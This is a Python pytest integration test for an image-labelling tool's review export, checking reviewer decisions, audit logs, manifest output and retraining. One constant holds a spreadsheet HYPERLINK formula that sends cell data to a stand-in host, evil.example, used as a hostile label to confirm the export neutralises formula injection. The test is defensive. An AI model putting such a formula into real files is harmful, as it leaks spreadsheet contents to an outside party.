"""``crowdlens review export``: the corrected training manifest round-trips into
``crowdlens train`` (real Spark, the real pretrained backbone, real photos)."""

from __future__ import annotations

import csv
import json

import pytest

from crowdlens import schema as S
from crowdlens.cli import main
from crowdlens.review.store import DecisionStore

CLASSES = ("Avocado", "Banana", "Lime")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _results(shared_data, out):
    """9 real training photos (3 per class); four of them wait for review."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    rows = []
    for name in CLASSES:
        for i, p in enumerate(sorted((shared_data / "train").rglob(f"{name}/*.jpg"))[:3]):
            rows.append(
                {
                    S.IMAGE_ID: f"{name}-{i}",
                    S.PATH: str(p),
                    S.LABEL: name,
                    S.COUNTRY: "Kenya",
                    S.STATUS: "ok",
                    S.DECISION: "accept",
                    S.REASONS: [],
                }
            )
    by_id = {r[S.IMAGE_ID]: r for r in rows}
    by_id["Banana-0"].update({S.LABEL: FORMULA, S.DECISION: "review"})  # a hostile claim
    by_id["Banana-1"][S.COUNTRY] = "Ke\u202enya"  # a right-to-left override in metadata
    for iid in ("Lime-0", "Avocado-0", "Avocado-1"):
        by_id[iid].update({S.DECISION: "review", S.REASONS: ["label suspect: doubt"]})
    (out / "results.parquet").mkdir(parents=True)
    pq.write_table(pa.Table.from_pylist(rows), out / "results.parquet" / "part-0.parquet")
    return out


@pytest.mark.spark
@pytest.mark.slow
def test_export_round_trips_into_train(spark, shared_data, tmp_path, capsys):
    results = _results(shared_data, tmp_path / "run")
    store = DecisionStore(results / "review.sqlite")
    store.record([("Banana-0", "relabel", "Banana")], "ann")
    store.record([("Lime-0", "reject", None)], "bob")
    store.record([("Avocado-0", "accept", None)], "ann")
    store.record([("Avocado-0", "reject", None)], "bob")  # a conflict: kept out of training
    store.record([("Avocado-1", "reject", None)], "ann")
    store.record([("Avocado-1", "accept", None)], "ann")  # changed her mind: audited
    store.close()

    assert main(["review", "export", str(results)]) == 0
    assert "1 in conflict" in capsys.readouterr().out
    with (results / "train_manifest.csv").open(encoding="utf-8") as fh:
        manifest = list(csv.DictReader(fh))
    got = {r[S.IMAGE_ID]: r for r in manifest}
    assert set(got) == {f"{c}-{i}" for c in CLASSES for i in range(3)} - {"Lime-0", "Avocado-0"}
    assert got["Banana-0"][S.LABEL] == "Banana"
    assert got["Banana-0"][S.CLAIMED_LABEL] == "'" + FORMULA  # neutralised for spreadsheets
    assert got["Banana-1"][S.COUNTRY] == "Ke<U+202E>nya"
    assert got["Avocado-1"][S.REVIEW_ACTION] == "accept"
    relabels = (results / "relabel_manifest.csv").read_text(encoding="utf-8").splitlines()
    assert len(relabels) == 2 and relabels[1].endswith(",Banana")
    with (results / "review_audit.csv").open(encoding="utf-8") as fh:
        audit = list(csv.DictReader(fh))
    assert len(audit) == 6
    assert (audit[-1][S.REVIEWER], audit[-1]["action"], audit[-1][S.REVIEW_PREV_ACTION]) == (
        "ann",
        "accept",
        "reject",
    )

    import pandas as pd

    final = pd.read_parquet(results / "final.parquet").set_index(S.IMAGE_ID)
    assert final.loc["Avocado-0", S.REVIEW_ACTION] == "conflict"
    assert final.loc["Avocado-0", S.FINAL_DECISION] == "review"
    assert final.loc["Lime-0", S.FINAL_DECISION] == "reject"

    # One command retrains on the corrected labels.
    bundle = tmp_path / "bundle"
    code = main(
        [
            "train", "--train", str(results / "train_manifest.csv"), "--out", str(bundle),
            "--mode", "head", "--epochs", "2", "--batch-size", "4", "--master", "local[2]",
            "--allowed-root", str(shared_data),  # the manifest names the original photos
        ]
    )  # fmt: skip
    assert code == 0
    capsys.readouterr()
    stored = json.loads((bundle / "bundle.json").read_text())
    assert stored["labels"] == sorted(CLASSES)
    assert (bundle / "model.onnx").is_file()
